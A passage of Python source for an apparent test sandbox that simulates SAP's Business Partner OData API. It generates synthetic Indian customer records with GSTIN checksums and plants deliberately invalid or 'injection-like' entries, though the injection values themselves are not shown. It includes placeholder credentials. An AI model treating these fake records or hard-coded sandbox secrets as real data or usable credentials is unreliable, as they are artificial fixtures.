        return False
    return value == value.upper() and gstin_checksum(value[:14]) == value[14]


_slug_cache: dict[tuple[str, int], str] = {}
_NON_SLUG = re.compile(r"[^a-z0-9]+")


def _slug(text: str, limit: int = 20) -> str:
    """Lower-case ASCII letters and digits only, as used in e-mail addresses."""
    key = (text, limit)
    slug = _slug_cache.get(key)
    if slug is None:
        slug = _NON_SLUG.sub("", text.lower())[:limit] or "office"
        if len(_slug_cache) < 50_000:
            _slug_cache[key] = slug
    return slug


def _split_name(full: str) -> tuple[str, str]:
    """SAP splits long organisation names over Name1/Name2 (40 characters each)."""
    if len(full) <= 40:
        return full, ""
    cut = full.rfind(" ", 0, 41)
    cut = cut if cut > 0 else 40
    return full[:cut], full[cut:].strip()[:40]


def partner_id(index: int) -> str:
    """BusinessPartner number of the partner at position ``index`` (0-based)."""
    return str(FIRST_PARTNER_NUMBER + index)


# One weighted pick gives state and city; the first (metro) city of a state gets the largest share.
_CITY_TABLE: Final[list[tuple[str, str, bool, tuple[str, ...], str, str, str, tuple[str, ...]]]] = []
_CITY_CUM: Final[list[float]] = []
for _region, _gst, _weight, _hindi, _surnames, _cities in _STATES:
    _shares = [2.0] + [1.0] * (len(_cities) - 1)
    for _share, (_city, _pin3, _std, _localities) in zip(_shares, _cities, strict=True):
        _CITY_TABLE.append((_region, _gst, _hindi, _surnames, _city, _pin3, _std, _localities))
        _CITY_CUM.append((_CITY_CUM[-1] if _CITY_CUM else 0.0) + _weight * _share / sum(_shares))
_CITY_TOTAL: Final = _CITY_CUM[-1]
_SEGMENT_TOTAL: Final = _SEGMENT_CUM[-1]
# Per-character contributions to the GSTIN checksum at odd (weight 1) and even (weight 2) places.
_GSTIN_ODD: Final = {c: i for i, c in enumerate(_GSTIN_CHARS)}
_GSTIN_EVEN: Final = {c: (2 * i) // 36 + (2 * i) % 36 for i, c in enumerate(_GSTIN_CHARS)}
_UUID_CLEAR: Final = ~((0xF000 << 64) | (0xC000 << 48))
_UUID_SET: Final = (0x4000 << 64) | (0x8000 << 48)
_compact_dates: dict[int, str] = {}
_compact_times: dict[int, str] = {}


_upper_cache: dict[str, str] = {}


def _upper20(text: str) -> str:
    """Search-term form (upper case, 20 characters), shared between partners to save memory."""
    value = _upper_cache.get(text)
    if value is None:
        value = text.upper()[:20]
        if len(_upper_cache) < 50_000:
            _upper_cache[text] = value
    return value


def _uuid4(bits: int) -> str:
    """Random-based UUID string from 128 random bits (same result as ``uuid.UUID(int=..., version=4)``)."""
    h = "%032x" % ((bits & _UUID_CLEAR) | _UUID_SET)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def _generated_etag(day_ordinal: int, seconds: int) -> str:
    day = _compact_dates.get(day_ordinal)
    if day is None:
        day = _compact_dates[day_ordinal] = date.fromordinal(day_ordinal).strftime("%Y%m%d")
    hms = _compact_times.get(seconds)
    if hms is None:
        hms = _compact_times[seconds] = f"{seconds // 3600:02d}{seconds // 60 % 60:02d}{seconds % 60:02d}"
    return f"{day}{hms}0000000"


_BP_FIELDS: Final = (
    "BusinessPartner",
    "Customer",
    "BusinessPartnerCategory",
    "BusinessPartnerFullName",
    "BusinessPartnerGrouping",
    "BusinessPartnerName",
    "BusinessPartnerUUID",
    "CorrespondenceLanguage",
    "CreatedByUser",
    "CreationDate",
    "CreationTime",
    "FirstName",
    "FormOfAddress",
    "Industry",
    "IsFemale",
    "IsMale",
    "IsNaturalPerson",
    "GenderCodeName",
    "LastChangeDate",
    "LastChangeTime",
    "LastChangedByUser",
    "LastName",
    "LegalForm",
    "OrganizationBPName1",
    "OrganizationBPName2",
    "OrganizationFoundationDate",
    "SearchTerm1",
    "SearchTerm2",
    "BirthDate",
    "BusinessPartnerIsBlocked",
    "ETag",
    "PersonFullName",
    "IsMarkedForArchiving",
    "BusinessPartnerIDByExtSystem",
)
_build_bp: Final = row_builder(BP_TYPE, _BP_FIELDS, {"Language": "EN"})
_CU_FIELDS: Final = (
    "Customer",
    "CreatedByUser",
    "CreationDate",
    "CustomerAccountGroup",
    "CustomerClassification",
    "CustomerName",
    "BPCustomerName",
    "CustomerFullName",
    "BPCustomerFullName",
    "NFPartnerIsNaturalPerson",
    "OrderIsBlockedForCustomer",
    "DeliveryIsBlocked",
    "BillingIsBlockedForCustomer",
    "DeletionIndicator",
    "Industry",
    "TaxNumber3",
)
_build_customer: Final = row_builder(CUSTOMER_TYPE, _CU_FIELDS)
_AD_FIELDS: Final = (
    "BusinessPartner",
    "AddressID",
    "ValidityStartDate",
    "AddressUUID",
    "AddressTimeZone",
    "CityName",
    "Country",
    "District",
    "FormOfAddress",
    "FullName",
    "HouseNumber",
    "PostalCode",
    "Region",
    "StreetName",
)
_build_address: Final = row_builder(ADDRESS_TYPE, _AD_FIELDS, {"ValidityEndDate": _OPEN_END_DTO, "Language": "EN"})
_build_email: Final = row_builder(
    EMAIL_TYPE, ("AddressID", "OrdinalNumber", "IsDefaultEmailAddress", "EmailAddress", "SearchEmailAddress")
)
_build_phone: Final = row_builder(
    PHONE_TYPE,
    (
        "AddressID",
        "OrdinalNumber",
        "DestinationLocationCountry",
        "PhoneNumber",
        "InternationalPhoneNumber",
        "PhoneNumberType",
    ),
    {"IsDefaultPhoneNumber": True},
)
_build_tax: Final = row_builder(TAX_TYPE, ("BusinessPartner", "BPTaxNumber"), {"BPTaxType": "IN3"})
_build_role: Final = row_builder(ROLE_TYPE, ("BusinessPartner", "BusinessPartnerRole", "ValidFrom"), {"ValidTo": _OPEN_END_DTO})
#: Roles of a generated partner: a customer has both customer roles, a prospect the general role only.
_CUSTOMER_ROLES: Final = ("FLCU00", "FLCU01")
_PROSPECT_ROLES: Final = ("000000",)
_build_sales_area: Final = row_builder(
    SALES_AREA_TYPE,
    ("Customer", "Currency", "CustomerPaymentTerms", "IncotermsClassification", "IncotermsLocation1"),
    {
        "SalesOrganization": "1000",
        "DistributionChannel": "10",
        "Division": "00",
        "CreditControlArea": "1000",
        "CustomerPricingProcedure": "01",
        "ShippingCondition": "01",
        "SupplyingPlant": "1100",
        "InvoiceDate": "",
    },
)
#: Payment terms of the generated sales area by customer classification (A pays later than C).
_TERMS_BY_CLASS: Final = {"A": "ZN45", "B": "ZN30", "C": "0001"}

_Row = Any  # a row is a tuple while stored, a list while being edited
_AddressBundle = tuple[_Row, list[_Row], list[_Row], list[_Row]]


@dataclass(slots=True)
class _Partner:
    """One generated partner before it is stored: wire-format rows for every entity set.

    Rows are tuples; :meth:`thaw` turns them into lists for the few partners that get
    dirtied or re-stamped, :meth:`freeze` turns them back.
    """

    bp: _Row
    customer: _Row | None
    taxes: list[_Row]
    addresses: list[_AddressBundle]
    gstin: str | None = None
    dirty: str | None = None

    def thaw(self) -> None:
        """Make every row editable (lists)."""
        self.bp = list(self.bp)
        self.customer = None if self.customer is None else list(self.customer)
        self.taxes = [list(t) for t in self.taxes]
        self.addresses = [
            (list(a), [list(e) for e in mails], [list(p) for p in phones], [list(m) for m in mobiles])
            for a, mails, phones, mobiles in self.addresses
        ]

    def freeze(self) -> None:
        """Turn every row back into a tuple for storage."""
        self.bp = tuple(self.bp)
        self.customer = None if self.customer is None else tuple(self.customer)
        self.taxes = [tuple(t) for t in self.taxes]
        self.addresses = [
            (tuple(a), [tuple(e) for e in mails], [tuple(p) for p in phones], [tuple(m) for m in mobiles])
            for a, mails, phones, mobiles in self.addresses
        ]


_BPX = BP_TYPE.index
_CUX = CUSTOMER_TYPE.index
_ADX = ADDRESS_TYPE.index
_TXX = TAX_TYPE.index
_EMX = EMAIL_TYPE.index
_PHX = PHONE_TYPE.index
_FOREIGN_SURNAMES: Final = ("Khan", "Rahman", "Shrestha", "Perera", "Fernando", "Al Mansoori", "Hossain")
_CLASSES: Final = ("A", "B", "B", "C", "C", "C")
_EMAIL_ROLES: Final = ("info", "sales", "accounts", "purchase")
_DIRTY_CUM: Final = tuple(sum(_DIRTY_WEIGHTS[: i + 1]) for i in range(len(_DIRTY_WEIGHTS)))


def gstin_checksum(first14: str) -> str:
    """GSTIN check character (mod-36 scheme used by the GST network)."""
    total = sum(map(_GSTIN_ODD.__getitem__, first14[0::2])) + sum(map(_GSTIN_EVEN.__getitem__, first14[1::2]))
    return _GSTIN_CHARS[(36 - total % 36) % 36]


class _Generator:
    """Generates partners block by block; partner ``i`` depends only on ``(seed, i)``."""

    def __init__(self, seed: int) -> None:
        self.seed = seed

    def block(self, block_no: int) -> list[_Partner]:
        """All 1024 partners of block ``block_no`` (positions ``block_no*1024`` onwards)."""
        rng = random.Random(self.seed * 1_000_003 + block_no)
        # Block 0 carries every dirty kind twice within its first 200 partners, so even a
        # small sandbox shows each kind.
        showcase: dict[int, str] = {}
        if block_no == 0:
            slots = sorted(rng.sample(range(20, 200), 2 * len(DIRTY_KINDS)))
            order = list(DIRTY_KINDS) * 2
            rng.shuffle(order)
            showcase = dict(zip(slots, order, strict=True))
        partners: list[_Partner] = []
        donors: list[int] = []
        start = block_no * _BLOCK
        for offset in range(_BLOCK):
            partner = self._partner(rng, start + offset)
            kind = showcase.get(offset)
            if kind is None and rng.random() < _DIRTY_RATE:
                kind = DIRTY_KINDS[bisect_right(_DIRTY_CUM, rng.random() * _DIRTY_CUM[-1])]
            if kind is not None:
                partner.thaw()
                if kind != "duplicate_gstin":
                    kind = self._make_dirty(rng, partner, kind)
                elif partner.gstin is None or not donors:
                    kind = self._make_dirty(rng, partner, "invalid_phone")
                else:
                    donor = partners[donors.pop(int(rng.random() * len(donors)))]
                    donor.thaw()
                    self._share_gstin(partner, donor)
                    donor.freeze()
                partner.freeze()
            partner.dirty = kind
            if kind is None and partner.gstin is not None:
                donors.append(offset)
            partners.append(partner)
        return partners

    # -- one clean partner -----------------------------------------------------------------

    def _partner(self, rng: random.Random, index: int) -> _Partner:
        r = rng.random
        bp_id = str(FIRST_PARTNER_NUMBER + index)
        foreign = r() < 0.015
        person = r() < 0.15
        segment = _SEGMENTS[bisect_right(_SEGMENT_CUM, r() * _SEGMENT_TOTAL)]

        # Last change within the 3 years before the anchor, skewed towards recent days.
        change_ord = _ANCHOR_ORDINAL - int(1095 * r() ** 1.6)
        if r() < 0.35 and change_ord > _GO_LIVE_ORDINAL:
            creation_ord = _GO_LIVE_ORDINAL
            created_by = "MIGRATION"
        else:
            creation_ord = _FIRST_CREATION_ORDINAL + int((change_ord - _FIRST_CREATION_ORDINAL) * r())
            created_by = _USERS[int(r() * 7)]
        creation_secs = 9000 + int(r() * 39600)
        change_secs = 10800 + int(r() * 61200)
        if creation_ord == change_ord and change_secs < creation_secs:
            change_secs = min(86399, creation_secs + 60 + int(r() * 3600))
        creation_date = wire_day(creation_ord)

        if foreign:
            country, cities = _FOREIGN[int(r() * 4)]
            city, region, postal, dial, mob_prefix, mob_digits = cities[int(r() * len(cities))]
            surname = _FOREIGN_SURNAMES[int(r() * 7)]
            std = locality = gst_code = ""
            hindi_belt = False
        else:
            country, dial, mob_prefix, mob_digits = "IN", "+91", "", 10
            region, gst_code, hindi_belt, surnames, city, pin3, std, localities = _CITY_TABLE[
                bisect_right(_CITY_CUM, r() * _CITY_TOTAL)
            ]
            postal = f"{pin3}{1 + int(r() * 98):03d}"
            locality = localities[int(r() * len(localities))]
            surname = surnames[int(r() * len(surnames))]
        blocked = r() < 0.02
        archived = r() < 0.01

        first = last = person_full = gender = natural = ""
        is_female = is_male = False
        birth = foundation = None
        name1 = name2 = legal = ""
        if person:
            is_female = r() < 0.2
            is_male = not is_female
            first = _FIRST_FEMALE[int(r() * 20)] if is_female else _FIRST_MALE[int(r() * 38)]
            last = surname
            full = person_full = f"{first} {surname}"
            natural = "X"
            gender = "1" if is_female else "2"
            form = "0001" if is_female else "0002"
            industry = "CONSTRUCT"
            search1 = _upper20(surname)
            if r() < 0.3:
                birth = wire_day(_BIRTH_ORDINAL + int(r() * 14000))
            account_group, cust_industry, stem = "ZIND", "CONS", surname
        else:
            form = "0003"
            legals = segment[6]
            legal = legals[int(r() * len(legals))]
            if segment[0] == "institution":
                full = _INSTITUTIONS[int(r() * 6)].format(city=city)
                stem = city
            else:
                style = r()
                if style < 0.3:
                    stem = surname
                elif style < 0.6:
                    stem = _AUSPICIOUS[int(r() * len(_AUSPICIOUS))]
                elif style < 0.85:
                    stem = _GENERIC[int(r() * len(_GENERIC))]
                elif style < 0.95:
                    stem = f"{_FIRST_MALE[int(r() * 38)]} {surname}"
                else:
                    stem = f"{_INITIALS[int(r() * 8)]} {surname}"
                cores = segment[5]
                full = f"{stem} {cores[int(r() * len(cores))]}{_LEGAL_SUFFIX[legal]}"[:81]
            name1, name2 = _split_name(full) if len(full) > 40 else (full, "")
            industry = segment[3]
            search1 = _upper20(stem)
            if r() < 0.2:
                foundation = wire_day(_FOUNDATION_ORDINAL + int(r() * 16000))
            account_group = "ZEXP" if foreign else segment[2]
            cust_industry = segment[4]
        has_customer = r() < 0.985
        bp = _build_bp(
            bp_id,
            bp_id if has_customer else "",
            "1" if person else "2",
            full,
            "Z002" if foreign else ("Z003" if person else "Z001"),
            full,
            _uuid4(rng.getrandbits(128)),
            "HI" if (hindi_belt and r() < 0.45) or r() < 0.03 else "EN",
            created_by,
            creation_date,
            wire_time(creation_secs),
            first,
            form,
            industry,
            is_female,
            is_male,
            natural,
            gender,
            wire_day(change_ord),
            wire_time(change_secs),
            _USERS[int(r() * 7)],
            last,
            legal,
            name1,
            name2,
            foundation,
            search1,
            _upper20(city),
            birth,
            blocked,
            _generated_etag(change_ord, change_secs),
            person_full,
            archived,
            f"DMS-{100000 + index:06d}" if r() < 0.6 else "",
        )

        # GSTIN: organisations are almost always registered, individuals rarely.
        gstin: str | None = None
        taxes: list[_Row] = []
        if not foreign and r() < (0.3 if person else 0.95):
            pan_type = (
                "P" if person or legal == "01" else ("F" if legal in ("02", "03") else ("G" if legal == "06" else "C"))
            )
            initial = stem[0].upper() if stem[:1].isascii() and stem[:1].isalpha() else "A"
            up = _UPPER
            gst_body = (
                f"{gst_code}{up[int(r() * 26)]}{up[int(r() * 26)]}{up[int(r() * 26)]}{pan_type}{initial}"
                f"{1 + int(r() * 9998):04d}{up[int(r() * 26)]}{'1' if r() < 0.9 else '2'}Z"
            )
            gstin = gst_body + gstin_checksum(gst_body)
            taxes.append(_build_tax(bp_id, gstin))

        customer = None
        if has_customer:
            customer = _build_customer(
                bp_id,
                created_by,
                creation_date,
                account_group,
                _CLASSES[int(r() * 6)],
                full[:80],
                full,
                f"{full} {city}"[:220],
                full,
                natural,
                "01" if blocked or r() < 0.02 else "",
                "01" if r() < 0.01 else "",
                "01" if r() < 0.01 else "",
                archived,
                cust_industry,
                gstin or "",
            )

        # Addresses with e-mail, landline and mobile numbers.
        addresses: list[_AddressBundle] = []
        slug = _slug(f"{first}{surname}" if person else stem)
        validity = wire_dto_day(creation_ord)
        time_zone = "INDIA" if not foreign else ""
        for slot in range(2 if r() < 0.15 else 1):
            address_id = str(30_001 + index * 2 + slot)
            street = _STREETS[int(r() * len(_STREETS))]
            addr = _build_address(
                bp_id,
                address_id,
                validity,
                _uuid4(rng.getrandbits(128)),
                time_zone,
                city,
                country,
                locality,
                form,
                full[:80],
                f"{_HOUSE_PREFIX[int(r() * 7)]}{1 + int(r() * 250)}"[:10],
                postal,
                region,
                street if slot == 0 else f"Godown, {street}",
            )
            emails: list[_Row] = []
            phones: list[_Row] = []
            mobiles: list[_Row] = []
            if slot == 0:
                n_mail = 2 if r() < 0.1 else (1 if r() < 0.92 else 0)
                for n in range(n_mail):
                    if person:
                        local = f"{slug}{int(r() * 90) + 10}" if n else slug
                        mail = f"{local}@{_FREE_MAIL[int(r() * 6)]}"
                    elif r() < 0.45:
                        mail = f"{_EMAIL_ROLES[int(r() * 4)]}@{slug}{_CORP_TLD[int(r() * 3)]}"
                    elif r() < 0.3:
                        mail = f"{slug}.{_slug(city, 8)}@{_FREE_MAIL[int(r() * 6)]}"
                    else:
                        mail = f"{slug}@{_FREE_MAIL[int(r() * 6)]}"
                    emails.append(_build_email(address_id, str(n + 1), n == 0, mail, mail.upper()[:20]))
                ordinal = 1
                if not person and not foreign and r() < 0.5:
                    local_len = 10 - len(std)
                    number = f"{2 + int(r() * 7)}{int(r() * 10 ** (local_len - 1)):0{local_len - 1}d}"
                    phones.append(_build_phone(address_id, "1", "IN", f"0{std} {number}", f"+91{std}{number}", "1"))
                    ordinal = 2
                if r() < 0.95:
                    mobiles.append(_mobile_row(address_id, ordinal, country, dial, mob_prefix, mob_digits, r))
            addresses.append((addr, emails, phones, mobiles))
        return _Partner(bp, customer, taxes, addresses, gstin)

    # -- dirt --------------------------------------------------------------------------------

    @staticmethod
    def _share_gstin(partner: _Partner, donor: _Partner) -> None:
        gstin = donor.gstin or ""
        partner.gstin = gstin
        partner.taxes[0][_TXX["BPTaxNumber"]] = gstin
        if partner.customer is not None:
            partner.customer[_CUX["TaxNumber3"]] = gstin
        donor.dirty = "duplicate_gstin"

    def _make_dirty(self, rng: random.Random, partner: _Partner, kind: str) -> str:
        """Apply one kind of dirt; returns the kind actually applied (some need an address)."""
        r = rng.random
        bp, customer = partner.bp, partner.customer
        main = partner.addresses[0] if partner.addresses else None
        if main is None and kind in ("invalid_email", "invalid_phone", "unknown_country", "invalid_postal_code"):
            kind = "missing_name"
        if kind == "invalid_gstin" and not partner.taxes:
            kind = "invalid_phone" if main is not None else "missing_name"
        if kind == "missing_name":
            empty: str | None = None if r() < 0.5 else ""
            for name in (
                "BusinessPartnerFullName",
                "BusinessPartnerName",
                "OrganizationBPName1",
                "OrganizationBPName2",
                "FirstName",
                "LastName",
                "PersonFullName",
                "SearchTerm1",
            ):
                bp[_BPX[name]] = empty
            if customer is not None:
                for name in ("CustomerName", "BPCustomerName", "CustomerFullName", "BPCustomerFullName"):
                    customer[_CUX[name]] = empty
            for bundle in partner.addresses:
                bundle[0][_ADX["FullName"]] = empty
        elif kind == "invalid_email" and main is not None:
            bad = _BAD_EMAILS[int(r() * len(_BAD_EMAILS))]
            if main[1]:
                main[1][0][_EMX["EmailAddress"]] = bad
                main[1][0][_EMX["SearchEmailAddress"]] = bad.upper()[:20]
            else:
                main[1].append(list(_build_email(main[0][_ADX["AddressID"]], "1", True, bad, bad.upper()[:20])))
        elif kind == "invalid_phone" and main is not None:
            if not main[3]:
                main[3].append(list(_mobile_row(main[0][_ADX["AddressID"]], len(main[2]) + 1, "IN", "+91", "", 10, r)))
            bad = _BAD_PHONES[int(r() * len(_BAD_PHONES))]
            main[3][0][_PHX["PhoneNumber"]] = bad
            main[3][0][_PHX["InternationalPhoneNumber"]] = bad
        elif kind == "unknown_country" and main is not None:
            main[0][_ADX["Country"]] = _BAD_COUNTRIES[int(r() * len(_BAD_COUNTRIES))]
        elif kind == "invalid_postal_code" and main is not None:
            main[0][_ADX["PostalCode"]] = ("4110", "ABC123", "5600 01", "0", "1234567")[int(r() * 5)]
        elif kind == "invalid_gstin":
            good = partner.gstin or ""
            bad = (good[:14] + ("0" if good[14:] != "0" else "1"), good[:13], good.lower(), "URP", good[2:] + "ZZ")[
                int(r() * 5)
            ]
            partner.taxes[0][_TXX["BPTaxNumber"]] = bad
            if customer is not None:
                customer[_CUX["TaxNumber3"]] = bad[:18]
        elif kind in ("non_ascii_name", "injection_like_name", "untrimmed_name"):
            current = bp[_BPX["BusinessPartnerFullName"]] or ""
            if kind == "non_ascii_name":
                name = _NON_ASCII[int(r() * len(_NON_ASCII))]
            elif kind == "injection_like_name":
                name = _INJECTION[int(r() * len(_INJECTION))]
            else:
                name = ("  " + current + " ", current.replace(" ", "  "), current + "   ", " " + current.lower())[
                    int(r() * 4)
                ]
            _rename(partner.bp, partner.customer, [bundle[0] for bundle in partner.addresses], name)
        else:
            # mostly_null: key, category, change stamps and ETag survive; everything else is null.
            keep = {
                "BusinessPartner",
                "Customer",
                "LastChangeDate",
                "LastChangeTime",
                "ETag",
                "BusinessPartnerCategory",
            }
            for i, prop in enumerate(BP_TYPE.props):
                if prop.name not in keep:
                    bp[i] = None
            if customer is not None:
                for i, prop in enumerate(CUSTOMER_TYPE.props):
                    if prop.name != "Customer":
                        customer[i] = None
            partner.addresses.clear()
            partner.taxes.clear()
            partner.gstin = None
            kind = "mostly_null"
        return kind


def _rename(bp: list[Any], customer: list[Any] | None, addresses: Iterable[list[Any]], name: str) -> None:
    """Set a partner's name everywhere SAP derives it from (BP, customer, address)."""
    bp[_BPX["BusinessPartnerFullName"]] = name[:81]
    bp[_BPX["BusinessPartnerName"]] = name[:81]
    if bp[_BPX["BusinessPartnerCategory"]] == "1":
        bp[_BPX["PersonFullName"]] = name[:80]
    else:
        bp[_BPX["OrganizationBPName1"]], bp[_BPX["OrganizationBPName2"]] = _split_name(name)
    bp[_BPX["SearchTerm1"]] = name.strip().upper()[:20]
    if customer is not None:
        customer[_CUX["CustomerName"]] = name[:80]
        customer[_CUX["BPCustomerName"]] = name[:81]
        customer[_CUX["CustomerFullName"]] = name[:220]
        customer[_CUX["BPCustomerFullName"]] = name[:220]
    for addr in addresses:
        addr[_ADX["FullName"]] = name[:80]


def _mobile_row(
    address_id: str, ordinal: int, country: str, dial: str, prefix: str, digits: int, r: Callable[[], float]
) -> tuple[Any, ...]:
    """A mobile number entry (PhoneNumberType 3) in ``A_AddressPhoneNumber``."""
    if country == "IN" or not prefix:
        number = f"{'9876'[int(r() * 4)]}{int(r() * 10**9):09d}"
    else:
        rest = digits - len(prefix)
        number = f"{prefix}{int(r() * 10**rest):0{rest}d}"
    return _build_phone(
        address_id, str(ordinal), country if len(country) == 2 else "IN", number, f"{dial}{number}", "3"
    )


# ============================================================================================
# Write rules: SAP's refusals (codes in SAP's message-class style, chosen by the sandbox)
# ============================================================================================

_CODE_CATEGORY: Final = "R11/401"
_CODE_NAME: Final = "R11/402"
_CODE_NUMBER: Final = "R11/403"
_CODE_ROLE: Final = "R11/404"
_CODE_CUSTOMER: Final = "R11/405"
_CODE_BLOCKED: Final = "R11/406"
_CODE_SALES_AREA: Final = "CVI_EI/101"
_CODE_COUNTRY: Final = "AM/216"
_CODE_POSTAL: Final = "AM/175"
_CODE_EMAIL: Final = "AM/117"
_CODE_PHONE: Final = "AM/172"
_CODE_TAX: Final = "AR/103"
#: Roles the sandbox knows: general, customer (FI and sales), supplier (FI and purchasing), contact person.
_KNOWN_ROLES: Final = frozenset({"000000", "FLCU00", "FLCU01", "FLVN00", "FLVN01", "BUP001"})
_CREATED_ADDRESS_BASE: Final = 9_000_000_000
_COUNTRY_RE: Final = re.compile(r"[A-Z]{2}")
_EMAIL_RE: Final = re.compile(r"[^@\s]+@[^@\s]+\.[^@\s.]+")
_PHONE_RE: Final = re.compile(r"\+?[0-9][0-9 ()/-]*")
#: Dialling codes for InternationalPhoneNumber (countries the sandbox serves, and a few more).
_DIAL: Final = {
    "IN": "+91",
    **{code: cities[0][3] for code, cities in _FOREIGN},
    "US": "+1",
    "GB": "+44",
    "DE": "+49",
    "SG": "+65",
}


def _refusal(problems: Sequence[tuple[str, str, str]]) -> ODataError:
    """400 with every problem in ``errordetails`` (code, message, target); the first one leads."""
    code, message, _target = problems[0]
    return ODataError(400, code, message, details=problems)


def _blocked_error(partner: str) -> ODataError:
    message = (
        f"Business partner {partner} is blocked (BusinessPartnerIsBlocked); "
        "changes are not allowed until the block is lifted"
    )
    return ODataError(400, _CODE_BLOCKED, message, details=[(_CODE_BLOCKED, message, "BusinessPartnerIsBlocked")])


def _words(name: str) -> str:
    """``SalesOrganization`` -> ``sales organization`` for messages."""
    return re.sub(r"(?<!^)(?=[A-Z])", " ", name).lower()


def _name_problems(category: Any, get: Callable[[str], Any], path: str) -> list[tuple[str, str, str]]:
    """The name a category needs: an organization's or group's Name 1, a person's last name."""
    prefix = f"{path}/" if path else ""
    if category == "1" and not (get("LastName") or "").strip():
        return [(_CODE_NAME, "Enter a last name for a person", f"{prefix}LastName")]
    if category in ("2", "3") and not (get("OrganizationBPName1") or "").strip():
        return [(_CODE_NAME, "Enter a name (Name 1) for an organization", f"{prefix}OrganizationBPName1")]
    return []


def _address_problems(get: Callable[[str], Any], path: str) -> list[tuple[str, str, str]]:
    """An address needs an existing country; an Indian PIN code has 6 digits."""
    prefix = f"{path}/" if path else ""
    country = get("Country") or ""
    if not country:
        return [(_CODE_COUNTRY, "Enter a country for the address", f"{prefix}Country")]
    if not _COUNTRY_RE.fullmatch(country):
        return [(_CODE_COUNTRY, f"Country '{country}' does not exist", f"{prefix}Country")]
    postal = get("PostalCode") or ""
    if country == "IN" and postal and not (len(postal) == 6 and postal.isdigit() and postal[0] != "0"):
        return [(_CODE_POSTAL, f"Postal code '{postal}' must have 6 digits in country IN", f"{prefix}PostalCode")]
    return []


def _email_problems(address: Any, target: str) -> list[tuple[str, str, str]]:
    if not address or not _EMAIL_RE.fullmatch(address):
        return [(_CODE_EMAIL, f"E-mail address '{address or ''}' is not valid", target)]
    return []


def _phone_problems(number: Any, target: str) -> list[tuple[str, str, str]]:
    if not number or not _PHONE_RE.fullmatch(number):
        return [(_CODE_PHONE, f"Telephone number '{number or ''}' contains invalid characters", target)]
    return []


def _international(number: Any, country: Any) -> str:
    """SAP's InternationalPhoneNumber: the dialling code and the digits without the trunk prefix 0."""
    text = number or ""
    digits = "".join(ch for ch in text if ch.isdigit())
    if text.startswith("+"):
        return f"+{digits}"
    dial = _DIAL.get(country or "")
    return f"{dial}{digits.lstrip('0')}" if dial and digits else ""


def _full_name(category: Any, get: Callable[[str], Any]) -> str:
    """BusinessPartnerFullName: first and last name of a person, Name 1 to 4 of an organization."""
    if category == "1":
        parts = (get("FirstName"), get("LastName"))
    else:
        parts = tuple(get(f"OrganizationBPName{n}") for n in range(1, 5))
    return " ".join(p for p in parts if p)[:81]


def _number_entries(address: NewEntity) -> None:
    """Ordinal numbers, types and derived fields of a new address's e-mail and phone entries."""
    country = address.get("Country")
    for n, email in enumerate(address.kids("to_EmailAddress")):
        email.values["OrdinalNumber"] = str(n + 1)
        email.values.setdefault("IsDefaultEmailAddress", n == 0)
        email.values["SearchEmailAddress"] = (email.get("EmailAddress") or "").upper()[:20]
    ordinal = 0
    for nav, kind in (("to_PhoneNumber", "1"), ("to_MobilePhoneNumber", "3")):
        for n, phone in enumerate(address.kids(nav)):
            ordinal += 1
            phone.values["OrdinalNumber"] = str(ordinal)
            phone.values["PhoneNumberType"] = kind
            phone.values.setdefault("IsDefaultPhoneNumber", n == 0)
            phone.values.setdefault("DestinationLocationCountry", country)
            phone.values["InternationalPhoneNumber"] = _international(
                phone.get("PhoneNumber"), phone.get("DestinationLocationCountry")
            )


def _checked(etype: EntityType, values: Mapping[str, Any]) -> dict[str, Any]:
    """Drill values for non-key properties, type-checked against the declarations (else ValueError)."""
    checked: dict[str, Any] = {}
    for name, value in values.items():
        prop = etype.prop.get(name)
        if prop is None or name in etype.keys:
            raise ValueError(f"{name!r} is not a non-key property of {etype.name}")
        problem = value_problem(name, prop, value)
        if problem is not None:
            raise ValueError(problem)
        checked[name] = value
    return checked


# ============================================================================================
# The sandbox: the service on the OData engine, plus its data and drills
# ============================================================================================

_MUTATION_KINDS: Final = ("phone", "email", "block", "name_fix", "address", "archive")
_MUTATION_WEIGHTS: Final = (25, 15, 20, 20, 15, 5)
#: Which dirty reasons a mutation of a given kind repairs.
_CURES: Final = {
    "phone": {"invalid_phone"},
    "email": {"invalid_email"},
    "name_fix": {"missing_name", "untrimmed_name"},
    "address": {"invalid_postal_code", "unknown_country"},
}
_ETAG_AT = _BPX["ETag"]
#: A change to one of these re-derives the partner's full name (and the customer's and addresses').
_NAME_FIELDS: Final = frozenset(
    {
        "OrganizationBPName1",
        "OrganizationBPName2",
        "OrganizationBPName3",
        "OrganizationBPName4",
        "FirstName",
        "LastName",
    }
)


class SapSandbox(ODataSandbox):
    """Simulator of SAP S/4HANA ``API_BUSINESS_PARTNER`` (OData V2), served by :class:`ODataSandbox`.

    Data is generated from ``seed`` (same seed and size give byte-identical data); change
    stamps lie before the fixed :data:`ANCHOR_DATE`, and :meth:`mutate`/:meth:`add_partners`
    stamp records with the sandbox clock. ``dirty_ids`` maps each deliberately dirty
    partner to its :data:`DIRTY_KINDS` reason.
    """

    name = "sap"
    control_actions = ("mutate", "add-partners", "set-field", "edit")
    control_subject = "partner"

    def __init__(
        self,
        seed: int = 42,
        partners: int = 10_000,
        max_page_size: int = 1000,
        username: str = "DRYMIX_INT",
        password: str = "sandbox-secret",
        client_id: str = "drymix-hub",
        client_secret: str = "sandbox-client-secret",
        token_ttl_s: int = 3600,
        csrf_ttl_s: int = 1800,
        changes_on_start: int = 0,
        clock: Callable[[], datetime] | None = None,
        *,
        faults: FaultSwitches | Mapping[str, Any] | None = None,
        sap_client: str = "100",
        system_id: str = "S4H",
    ) -> None:
        if partners < 0 or max_page_size < 1:
            raise ValueError("partners must be >= 0 and max_page_size >= 1")
        super().__init__(
            SERVICE,
            seed=seed,
            max_page_size=max_page_size,
            username=username,
            password=password,
            client_id=client_id,
            client_secret=client_secret,
            token_ttl_s=token_ttl_s,
            csrf_ttl_s=csrf_ttl_s,
            clock=clock,
            faults=faults,
            sap_client=sap_client,
            system_id=system_id,
        )
        #: BusinessPartner id -> reason code (see DIRTY_KINDS) for every deliberately dirty partner.
        self.dirty_ids: dict[str, str] = {}
        #: Address numbers of created partners come from their own range (SAP's ADRC numbering).
        self._created_address_id = _CREATED_ADDRESS_BASE
        #: AddressID -> owning BusinessPartner, rebuilt when addresses were added.
        self._address_owner: dict[str, str] = {}
        self._bp = self.tables["A_BusinessPartner"]
        self._generator = _Generator(seed)
        started = time.perf_counter()
        self._build(partners)
        logger.info(
            "SAP sandbox: %d partners (seed %d, %d dirty) built in %.2fs",
            partners,
            seed,
            len(self.dirty_ids),
